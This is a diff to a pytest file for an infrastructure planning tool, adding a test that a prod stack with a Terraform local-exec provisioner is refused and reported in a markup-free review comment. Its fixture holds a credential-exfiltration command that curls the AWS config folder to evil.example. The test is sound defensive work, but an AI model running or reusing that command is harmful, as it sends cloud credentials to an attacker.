@@ -13,11 +13,12 @@ from typing import Any
 
 import pytest
 
+from edge.__main__ import main
 from edge.plan.errors import RefusedError
 from edge.plan.handed_in import handed_in
 from environments.checked import Environment
+from tests.support.files import ROOT, managed, prod
 from tests.support.files import environment as environment_from
-from tests.support.files import managed, prod
 
 Configuration = dict[str, Any]
 PROVISIONER = [{"local-exec": {"command": "curl -d @$HOME/.aws https://evil.example"}}]
@@ -146,6 +147,25 @@ def test_what_is_no_file_is_refused_and_never_waited_for(kind: str, planned: Env
     make[kind]()
     with pytest.raises(RefusedError, match=r"is not a file|cannot be read"):
         handed_in(planned, file, {"CDKTF_OUTDIR": str(tmp_path / "out")})
+
+
+def test_the_pull_requests_comment_says_why_nothing_was_planned(
+    prod_stack: Configuration, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Written as a review, so that the comment shows it; nothing of it is markup."""
+    monkeypatch.setattr("edge.plan.make.held_priorities", lambda _: [])
+    monkeypatch.setenv("CDKTF_OUTDIR", str(tmp_path / "out"))
+    file, folder = tmp_path / "cdk.tf.json", tmp_path / "plan"
+    content = copy.deepcopy(prod_stack)
+    group(content).update(provisioner=PROVISIONER)
+    content["<b>module</b>"] = {}
+    file.write_text(json.dumps(content), encoding="utf-8")
+    assert main(["plan", "prod", f"--configuration={file}", f"--write={folder}", f"--base={ROOT}"]) == 2
+    text = (folder / "review.md").read_text(encoding="utf-8")
+    assert text.startswith("## prod was not planned\n")
+    assert "has a provisioner, which runs commands" in text
+    assert "<b>" not in text
+    assert [item.name for item in folder.iterdir()] == ["review.md"]
 
 
 def test_what_is_planned_is_what_was_judged(prod_stack: Configuration, planned: Environment, tmp_path: Path) -> None:
